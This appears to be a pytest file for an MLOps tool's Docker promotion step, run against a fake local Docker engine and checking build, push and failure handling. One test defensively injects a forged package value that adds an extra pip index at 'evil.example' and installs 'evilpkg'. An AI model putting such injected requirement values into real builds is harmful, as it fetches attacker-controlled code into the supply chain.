"""A promotion to an environment deployed as a Docker image: the SDK's calls against a
fake engine on 127.0.0.1, and every way it fails leaving the environment where it was."""

from __future__ import annotations

import json
import re

import pytest

from mlgate import __version__, promotion
from mlgate.cli import main
from mlgate.errors import OutsideError
from mlgate.registry import operations
from tests.deploy import engine as fake_engine
from tests.deploy.conftest import IMAGE, Project


def test_the_image_is_built_from_the_context_and_pushed_before_the_tag(
    project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    with fake_engine.running() as engine:
        monkeypatch.setenv("DOCKER_HOST", engine.url)
        change = promotion.promote(project.where(), project.manifest, "v0.1.0", "staging")
    assert change.changed
    assert engine.calls[:2] == ["GET /version", "GET /_ping"]
    assert engine.calls[2:] == ["POST /build", f"POST /images/{IMAGE}/push"]
    (build,) = engine.builds
    assert build.params["t"] == f"{IMAGE}:v0.1.0" and build.params["pull"] == "True"
    assert sorted(build.files) == [  # the SDK always sends .dockerignore, as the CLI does
        ".dockerignore",
        "Dockerfile",
        "bundle/bundle.json",
        "bundle/mlops.yaml",
        "bundle/model.joblib",
        "bundle/run.json",
        "requirements.txt",
        "serve.py",
        f"wheels/mlgate-{__version__}-py3-none-any.whl",
    ]
    sources = re.findall(r"^COPY (\S+)", build.files["Dockerfile"].decode(), re.M)
    for source in sources:  # what the Dockerfile copies is in what reached the engine
        assert any(name == source or name.startswith(source) for name in build.files), source
    (push,) = engine.pushes
    assert push["image"] == f"{IMAGE}:v0.1.0" and push["auth"] is None  # no login here
    said = project.where().read().current("staging").record["deploy"]["docker"]
    assert said["image"] == f"{IMAGE}:v0.1.0" and said["pushed"] and said["built"]
    assert said["digest"] == engine.digest_of(f"{IMAGE}:v0.1.0")
    assert said["context"] == ".mlgate/docker/staging-v0.1.0" and said["engine"] == engine.url
    assert said["image_id"].startswith("sha256:")


def test_no_engine_fails_the_promotion_and_says_where_the_context_is(
    project: Project, no_engine: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["-C", str(project.root), "promote", "v0.1.0", "--to", "staging"]) == 3
    message = capsys.readouterr().err
    context = project.root / ".mlgate/docker/staging-v0.1.0"
    assert message.startswith(
        "mlgate: error: deploying v0.1.0 to staging failed: no Docker "
        f"engine reachable at {no_engine}: "
    )
    assert f"staging stays on no version; the build context is at {context}\n" in message
    assert message.rstrip().endswith("hint: start one, or set DOCKER_HOST to one")
    assert (context / "Dockerfile").is_file()  # there to look at, or to build by hand
    assert project.where().read().current("staging") is None  # no tag was written


@pytest.mark.e2e  # trains: runs the user's training as a process
def test_a_refused_push_keeps_the_previous_version(
    project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    with fake_engine.running() as engine:
        monkeypatch.setenv("DOCKER_HOST", engine.url)
        promotion.promote(project.where(), project.manifest, "v0.1.0", "staging")
        project.next_commit(0.5)
        operations.register(project.where(), project.manifest, project.run)
        engine.push_error = "denied: requested access to the resource is denied"
        with pytest.raises(OutsideError) as error:
            promotion.promote(project.where(), project.manifest, "v0.2.0", "staging")
    message = str(error.value)
    assert message.startswith(
        "deploying v0.2.0 to staging failed: pushing "
        f"{IMAGE}:v0.2.0 failed: denied: requested access"
    )
    assert "staging stays on v0.1.0" in message
    assert "  | 5f70bf18a086 Pushed" in message  # the engine's last words
    assert "docker login" in (error.value.hint or "")
    assert project.where().read().current("staging").version == "v0.1.0"


def test_a_failed_build_is_quoted_and_writes_no_tag(
    project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    with fake_engine.running() as engine:
        monkeypatch.setenv("DOCKER_HOST", engine.url)
        engine.build_error = (
            "The command '/bin/sh -c pip install --no-cache-dir -r "
            "requirements.txt' returned a non-zero code: 1"
        )
        with pytest.raises(
            OutsideError,
            match=r"building .*:v0\.1\.0 failed: The command "
            r"'/bin/sh -c pip install .* staging stays on no version",
        ):
            promotion.promote(project.where(), project.manifest, "v0.1.0", "staging")
    assert engine.pushes == []  # nothing pushed after a failed build
    assert project.where().read().current("staging") is None


def test_push_false_builds_only_for_the_platform_asked(
    project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    with fake_engine.running() as engine:
        monkeypatch.setenv("DOCKER_HOST", engine.url)
        where = project.where()
        promotion.promote(where, project.manifest, "v0.1.0", "staging")
        promotion.promote(where, project.manifest, "v0.1.0", "production")
    assert [b.params.get("platform") for b in engine.builds] == [None, "linux/amd64"]
    assert len(engine.pushes) == 1  # staging's only
    said = where.read().current("production").record["deploy"]["docker"]
    assert said["built"] and not said["pushed"] and "digest" not in said


def test_an_engine_error_answer_is_an_outside_error(tmp_path) -> None:
    from mlgate.deploy import docker

    context = tmp_path / "minimal"
    context.mkdir()
    (context / "Dockerfile").write_text("FROM scratch\n")
    with fake_engine.running() as engine:
        engine.keep_images = False  # the push then answers 404, as for an unknown image
        with pytest.raises(
            OutsideError,
            match=r"the Docker engine at tcp://127\.0\.0\.1:\d+ "
            r"failed on x/y:v1: .*An image does not exist locally",
        ):
            docker.build_and_push(
                context, "x/y", "v1", push=True, environ={"DOCKER_HOST": engine.url}
            )


def test_build_false_writes_the_context_and_tells_the_command(project: Project) -> None:
    promotion.promote(project.where(), project.manifest, "v0.1.0", "qa")
    told = json.loads((project.root / "rollout.json").read_text())
    context = project.root / ".mlgate/docker/qa-v0.1.0"
    assert told["MLGATE_IMAGE"] == f"{IMAGE}:v0.1.0" and "MLGATE_IMAGE_DIGEST" not in told
    assert told["MLGATE_DOCKER_CONTEXT"] == str(context)
    assert (context / "Dockerfile").is_file()
    said = project.where().read().current("qa").record["deploy"]
    assert said["docker"]["built"] is False and said["command"] == "python rollout.py"


def _forge(project: Project, version: str, **changed: object) -> None:
    """A version tag at a new commit, with v0.1.0's record and `changed` fields: what
    anyone who may push tags can write."""
    from tests.conftest import git

    said = git(project.root, "tag", "-l", "--format=%(contents)", "iris@v0.1.0")
    record = json.loads(said.split("mlgate-record: ")[1])
    git(project.root, "commit", "-q", "--allow-empty", "-m", f"forged {version}")
    commit = git(project.root, "rev-parse", "HEAD")
    body = {**record, "version": version, "commit": commit, **changed}
    git(
        project.root,
        "tag",
        "-a",
        "-m",
        f"s\n\nmlgate-record: {json.dumps(body)}",
        f"iris@{version}",
    )


@pytest.mark.parametrize(
    "packages",
    [
        {"numpy": "2.4.6\n--extra-index-url https://evil.example/simple\nevilpkg==6.6.6"},
        {"numpy x": "2.4.6"},
        {"--index-url": "1"},
        {"numpy": "2.4.6 ; os_name == 'nt'"},
    ],
)
def test_packages_that_are_not_a_name_and_a_version_make_the_version_unusable(
    project: Project, capsys: pytest.CaptureFixture[str], packages: dict[str, str]
) -> None:
    """A forged record's packages went into requirements.txt as written: pip options ran
    in the build, and a name with a space was a traceback."""
    _forge(project, "v0.2.0", packages=packages)
    code = main(["-C", str(project.root), "promote", "v0.2.0", "--to", "qa"])
    said = capsys.readouterr()
    assert code == 2 and "Traceback" not in said.err
    assert "tag iris@v0.2.0 is corrupt" in said.err and "nothing was changed" in said.err
    assert not (project.root / ".mlgate/docker/qa-v0.2.0").exists()
    assert not (project.root / "rollout.json").exists()


def test_a_full_disk_while_writing_the_context_is_said_with_no_traceback(
    project: Project, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """An OSError there was an internal error, and (with github: true) left the GitHub
    Deployment in_progress."""
    from mlgate.deploy import build_context

    def full(source: object, target: object) -> None:
        raise OSError(28, "No space left on device", str(target))

    monkeypatch.setattr(build_context.shutil, "copyfile", full)
    before = git_tags(project)
    assert main(["-C", str(project.root), "promote", "v0.1.0", "--to", "qa"]) == 3
    said = capsys.readouterr().err
    assert "Traceback" not in said and "internal error" not in said
    assert said.startswith(
        "mlgate: error: deploying v0.1.0 to qa failed: cannot write the build context in "
    )
    assert "No space left on device; qa stays on no version" in said
    assert "free some disk space" in said
    docker = project.root / ".mlgate/docker"
    assert [p.name for p in docker.iterdir()] == [".gitignore"]  # no half context
    assert git_tags(project) == before


def git_tags(project: Project) -> list[str]:
    from tests.conftest import git

    return git(project.root, "tag", "-l").split()
